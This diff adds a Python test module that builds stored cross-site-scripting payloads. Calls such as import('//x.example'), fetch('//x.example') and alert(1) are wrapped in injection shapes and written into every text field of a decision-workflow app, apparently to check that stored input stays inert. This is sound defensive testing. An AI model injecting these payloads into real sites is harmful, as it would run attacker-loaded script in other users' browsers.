@@ -1,0 +1,93 @@
+"""Two hundred pieces of text that try to be more than text, and a story in which every stored text field holds them."""
+
+from collections.abc import Iterator
+from datetime import timedelta
+from itertools import product
+from pathlib import Path
+
+from tests.cast import LEADERSHIP
+from tests.stories import Story
+
+FORTNIGHT = timedelta(days=14)  # enough clear working days at any time of the year
+SHORTEST = 290  # characters that a short field takes, with something to spare
+CALLS = ("alert(1)", "import('//x.example')", "fetch('//x.example')", "document.title='pwned'")
+# Where a call can hide. ``xpwn`` is an element and an attribute that no page of ours has.
+SHAPES = tuple(
+    line.replace("\\n", "\n").replace("\\u2028", "\u2028")
+    for line in Path(__file__).with_suffix(".txt").read_text(encoding="utf-8").splitlines()
+)
+PAYLOADS = tuple(shape.format(call) for shape, call in product(SHAPES, CALLS))
+
+
+def pieces() -> Iterator[str]:
+    """Give the payloads in pieces that fit a short field."""
+    piece = ""
+    for payload in PAYLOADS:
+        if len(piece) + len(payload) > SHORTEST:
+            yield piece.strip()
+            piece = ""
+        piece += payload + " "
+    yield piece.strip()
+
+
+def a_story_of(story: Story, short: str, long: str) -> str:
+    """Let every stored text field of a decision, and of people and participants, hold ``short`` or ``long``; return its reference."""
+    cast = story.cast
+    first, second, *others = cast.participants
+    people_and_places(story, short, long)
+    ref = proposed(story, short, long)
+    story.do("circulate", cast.manager, ref, papers=[short, short], urgent={"reason": long, "legal": long, "safe": long})
+    story.clock.advance(FORTNIGHT)
+    story.do("open", cast.chair, ref)
+    declared = story.do("declare_interest", cast.leads[second], ref, kind="institutional", nature=long)
+    story.do("rule_on_interest", cast.chair, ref, of=declared.interests[-1].n, handling="note_only", reason=long)
+    principle = story.policy.principles[0].id
+    story.says("object", cast.leads[first], first, ref, reason=long, interest=short, would_agree_if=long, principle=principle)
+    story.says("abstain", cast.leads[second], second, ref, reason=long)
+    story.do("amend", cast.leads[first], ref, title=short, text=f"{long} twice", reason=long)
+    story.says("agree_subject_to", cast.leads[first], first, ref, reason=long, body=short)
+    for participant in (second, *others):
+        story.says("agree", cast.leads[participant], participant, ref, reason=long)
+    story.do("ratify", cast.leads[first], ref, reference=short, decided_on=story.clock.now().date().isoformat())
+    story.do("complete", cast.manager, ref, outcome=long)
+    story.do("review", cast.leads[second], ref, finding=long, worked="yes")
+    return ref
+
+
+def proposed(story: Story, short: str, long: str) -> str:
+    parts = dict.fromkeys(("affected", "evidence", "options", "cost", "lawful", "interests"), long)
+    grid = {p.id: {"effect": "strains", "how": long} for p in story.policy.principles}
+    given = {"kind": "key-issue", "title": short, "text": long, "statement": {**parts, "principles": grid}}
+    ref = story.act("decision.propose", story.cast.leads[story.cast.participants[0]], **given).subject
+    story.do("record_voice", story.cast.manager, ref, who=short, said=long, changed=long)
+    question = story.do("ask", story.cast.leads[story.cast.participants[1]], ref, text=long).contributions[-1].n
+    story.do("answer", story.cast.leads[story.cast.participants[0]], ref, to=question, text=long)
+    return ref
+
+
+def people_and_places(story: Story, short: str, long: str) -> None:
+    """Invite somebody called ``short``, give that person a seat of a participant called ``short``, and end it."""
+    cast, name = story.cast, f"x{len(story.roster().participants)}"
+    story.act("person.invite", cast.administrator, name=short, contact=short)
+    person = story.roster().people[-1].ref
+    story.act("participant.join", cast.manager, participant=name, title=short, bodies=["management-team"])
+    place = {"participant": name, "body": "management-team", "person": person}
+    story.act("seat.fill", cast.administrator, **place)
+    story.act("absence.notify", cast.manager, **place, reason=long)
+    story.act("seat.end", cast.administrator, **place, reason=long)
+
+
+def an_unfinished_story_of(story: Story, short: str, long: str) -> str:
+    """Leave a decision open with an objection and a wording that waits, so that forms are filled with what was typed."""
+    cast = story.cast
+    first = cast.participants[0]
+    ref = proposed(story, short, long)
+    story.do("circulate", cast.manager, ref, papers=[short])
+    story.clock.advance(FORTNIGHT)
+    story.do("open", cast.chair, ref)
+    principle = story.policy.principles[0].id
+    story.says("object", cast.leads[first], first, ref, reason=long, interest=short, would_agree_if=long, principle=principle)
+    story.do("edit_wording", cast.manager, ref, text=f"{long} again")
+    story.do("declare_interest", cast.leads[cast.participants[1]], ref, kind="personal", nature=long)
+    assert story.decision(ref).body == LEADERSHIP
+    return ref
